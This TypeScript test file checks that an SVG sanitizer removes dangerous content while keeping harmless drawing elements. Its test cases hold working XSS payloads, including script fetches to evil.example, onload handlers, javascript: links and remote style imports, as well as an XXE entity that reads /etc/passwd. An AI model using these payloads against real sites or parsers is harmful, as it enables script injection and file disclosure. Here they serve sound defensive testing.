// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { sanitizeHtml, sanitizeSvg } from '@renderer/content/sanitize-html'

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"${attributes}><circle r="3"/>${inside}</svg>`
const clean = (text: string) => sanitizeSvg(text) ?? ''

describe('an SVG file', () => {
  it.each([
    '<script>fetch("https://evil.example")</script>',
    '<script href="https://evil.example/a.js"/>',
    '<path onload="alert(1)" d="M0 0"/>',
    '<a href="javascript:alert(1)"><text>x</text></a>',
    '<a xlink:href="https://evil.example"><text>x</text></a>',
    '<foreignObject><iframe src="https://evil.example"/></foreignObject>',
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example"/></body></foreignObject>',
    '<image href="https://evil.example/a.png"/>',
    '<image xlink:href="//evil.example/a.png"/>',
    '<image href="data:image/svg+xml;base64,PHN2Zz4="/>',
    '<use href="https://evil.example/a.svg#a"/>',
    '<use href="data:image/svg+xml,&lt;svg id=a onload=alert(1)&gt;#a"/>',
    '<style>@import "https://evil.example/a.css";</style>',
    '<style>circle{fill:url(https://evil.example/a.svg#a)}</style>',
    '<style>circle{fill:u\\72l(https://evil.example/a.svg#a)}</style>',
    '<rect fill="url(https://evil.example/a.svg#a)"/>',
    '<rect style="background-image:image-set(\'https://evil.example/a.png\' 1x)"/>',
    '<set attributeName="href" to="javascript:alert(1)"/>',
    '<animate attributeName="href" values="javascript:alert(1)"/>',
    '<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>',
    '<feImage href="https://evil.example/a.png"/>',
    '<embed src="https://evil.example"/>',
    '<![CDATA[<script>alert(1)</script>]]>',
  ])('is stored without %s', (inside) => {
    const text = clean(svg(inside))
    expect(text).toContain('<circle')
    expect(text).not.toMatch(
      /<script|<foreignobject|<iframe|<set|<animate|\son\w+=|evil|javascript|image\/svg|@import/i,
    )
    expect(new DOMParser().parseFromString(text, 'image/svg+xml').querySelector('parsererror')).toBeNull()
  })

  it('loses what runs at its root, and what its document type declares', () => {
    const text = clean(
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>', ' onload="alert(1)"')}`,
    )
    expect(text).toMatch(/^<svg /)
    expect(text).not.toMatch(/ENTITY|passwd|onload/)
  })

  it('keeps what it draws, and reads as a drawing', () => {
    const text = clean(
      svg(
        '<defs><linearGradient id="g"><stop offset="1" stop-color="red"/></linearGradient><path id="p" d="M1 1h3"/></defs>' +
          '<style>.a{fill:url(#g)}</style><use xlink:href="#p" class="a"/><rect fill="url(#g)"/><text>Chữ</text>' +
          '<image href="data:image/png;base64,AA=="/><filter id="f"><feGaussianBlur stdDeviation="2"/></filter>',
      ),
    )
    for (const part of [
      'viewBox="0 0 9 9"',
      'linearGradient',
      'url(#g)',
      'xlink:href="#p"',
      'Chữ',
      'data:image/png',
      'feGaussianBlur',
    ])
      expect(text).toContain(part)
    const drawing = new DOMParser().parseFromString(text, 'image/svg+xml').documentElement
    expect([drawing.namespaceURI, drawing.localName]).toEqual(['http://www.w3.org/2000/svg', 'svg'])
    expect(sanitizeSvg(text)).toBe(text)
  })

  it('is none where nothing is drawn', () => {
    expect(sanitizeSvg('<svg onload="alert(1)"></svg>')).toBeNull()
    expect(sanitizeSvg('<svg><script>alert(1)</script></svg>')).toBeNull()
    expect(sanitizeSvg('<p>Không phải hình</p>')).toBeNull()
  })

  it('changes nothing for the HTML that is cleaned after it', () => {
    clean(svg(''))
    expect(sanitizeHtml('<p><a href="https://a.example/">a</a><svg><circle/></svg></p>')).toBe(
      '<p><a href="https://a.example/" rel="noopener noreferrer nofollow">a</a></p>',
    )
  })
})
